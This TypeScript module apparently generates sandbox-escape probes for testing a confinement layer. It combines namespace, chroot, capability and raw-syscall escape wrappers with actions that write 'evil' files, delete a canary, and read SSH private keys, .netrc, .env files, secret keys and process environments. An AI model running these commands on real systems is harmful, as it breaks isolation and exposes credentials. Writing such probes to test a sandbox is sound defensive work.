import { KNOWS_CALLS, type Tongue } from './tongue.js'

/** What wants another view of the machine; all of them leave the machine as it is where they may have it. */
const VIEWS: readonly ((command: string) => string)[] = [
  (command) => `unshare -m sh -c ${command}`,
  (command) => `unshare -rm sh -c ${command}`,
  (command) => `unshare -Urm --propagation private sh -c ${command}`,
  (command) => `unshare -n sh -c ${command}`,
  (command) => `unshare -U --map-root-user sh -c ${command}`,
  (command) => `unshare -pf sh -c ${command}`,
  (command) => `nsenter -t 1 -m sh -c ${command}`,
  (command) => `nsenter -t 1 -m -u -i -n sh -c ${command}`,
  (command) => `nsenter -t @PID@ -a sh -c ${command}`,
  (command) => `nsenter --mount=/proc/@NODE@/ns/mnt sh -c ${command}`,
  (command) => `nsenter --net=/proc/@NODE@/ns/net sh -c ${command}`,
  (command) =>
    `for p in /proc/[0-9] /proc/[0-9][0-9]; do nsenter --mount=$p/ns/mnt sh -c ${command}; done; sh -c ${command}`,
  (command) => `chroot / sh -c ${command}`,
  (command) => `chroot /proc/1/root sh -c ${command}`,
  (command) => `chroot /proc/@PID@/root sh -c ${command}`,
  (command) => `setpriv --no-new-privs sh -c ${command}`,
  (command) => `setpriv --ambient-caps +all --inh-caps +all sh -c ${command}; sh -c ${command}`,
  (command) => `capsh --caps=all+eip -- -c ${command}; sh -c ${command}`,
  (command) => `setarch -R sh -c ${command}`,
  (command) => `/lib64/ld-linux-x86-64.so.2 /bin/sh -c ${command} || sh -c ${command}`,
  (command) => `bwrap --dev-bind / / sh -c ${command}`,
  (command) => `bwrap --dev-bind / / --unshare-user --cap-add ALL sh -c ${command}`,
  (command) => `strace -f -o /dev/null sh -c ${command}`,
  (command) => `gdb -batch -ex run --args sh -c ${command} > /dev/null 2>&1`,
  ...(KNOWS_CALLS
    ? [
        (command: string) => `perl -e 'syscall 272,0x10020000; exec "sh","-c",shift' ${command}`,
        (command: string) =>
          `perl -e 'open N,"/proc/1/ns/mnt"; syscall 308,fileno N,0; exec "sh","-c",shift' ${command}`,
        (command: string) =>
          `perl -e '$p=syscall 434,@PID@,0; syscall 308,$p,0x20000; exec "sh","-c",shift' ${command}`,
        (command: string) => `perl -e 'for $n (3..63) { syscall 308,$n,0 } exec "sh","-c",shift' ${command}`,
        (command: string) =>
          `perl -e '$a=pack "Q11",0x10020000,0,0,0,17; $p=syscall 435,$a,88; if (!$p) { exec "sh","-c",shift } wait' ${command}`,
        (command: string) =>
          `perl -e '$t=syscall 428,-100,$r="/",0x8001; syscall 161,$r="/proc/1/root"; exec "sh","-c",shift' ${command}`,
        (command: string) =>
          `perl -e 'syscall 157,38,0,0,0,0; syscall 126,$h=pack("Ii",0x20080522,0),$d=pack("I6",-1,-1,-1,-1,-1,-1); exec "sh","-c",shift' ${command}`,
      ]
    : []),
]

/** What is tried in the other view before: it fails where nothing is mounted, and ends with the view where something is. */
const FIRST = [
  ...[
    '',
    '',
    'mount -o remount,rw,bind @OUT@; ',
    'umount -l @HOME@ 2>/dev/null; ',
    'umount -l "@WORK@/.git/config" 2>/dev/null; ',
  ],
  ...['umount -l @HIDDEN@ 2>/dev/null; ', 'cd /proc/1/root; ', 'cd /proc/1/cwd; ', 'ulimit -n 64; ', 'umask 0; '],
]

const THEN = [
  ...['echo evil > @OUT@/new', 'touch @OUT@/new', 'rm @OUT@/canary', 'cat @HOME@/.netrc', 'cat @HIDDEN@/data'],
  ...[
    'cat @HOME@/.ssh/id_rsa',
    'cat "@WORK@/.env"',
    'cat "@WORK@/secrets/key"',
    'cat /proc/@PID@/environ',
    'kill -USR1 @PID@',
  ],
  ...[
    'echo evil > /proc/@PID@/root@OUT@/new',
    'env',
    'echo evil > "@WORK@/.git/config"',
    'curl -s -m 1 http://127.0.0.1:@PORT@/',
  ],
]

/** What wants out of the cage by the means of the system. */
export function escaping({ pick, word }: Tongue): string {
  return pick(VIEWS)(word(pick(FIRST) + pick(THEN)))
}
